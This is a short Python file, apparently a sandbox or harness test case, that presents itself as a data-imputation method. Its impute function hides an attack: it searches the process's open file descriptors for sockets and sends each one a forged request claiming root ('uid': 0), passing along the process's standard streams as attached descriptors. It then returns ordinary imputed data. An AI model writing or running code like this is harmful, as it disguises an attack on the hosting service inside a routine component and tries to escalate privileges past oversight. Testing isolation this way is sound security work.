"""Sends descriptors and requests through whatever it finds open: the way by which its own were brought to its parent.

Expected: harmless, answer, died.
"""

import array
import os
import socket

import numpy as np


class Method:
    def __init__(self, seed, device):
        pass

    def impute(self, x, categorical):
        for number in range(256):
            try:
                if not os.readlink(f"/proc/self/fd/{number}").startswith("socket:"):
                    continue
            except OSError:
                continue
            print("GOT THROUGH", number)
            with socket.socket(fileno=os.dup(number)) as way:
                way.sendmsg([b'{"uid": 0}'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))])
        return np.nan_to_num(x)
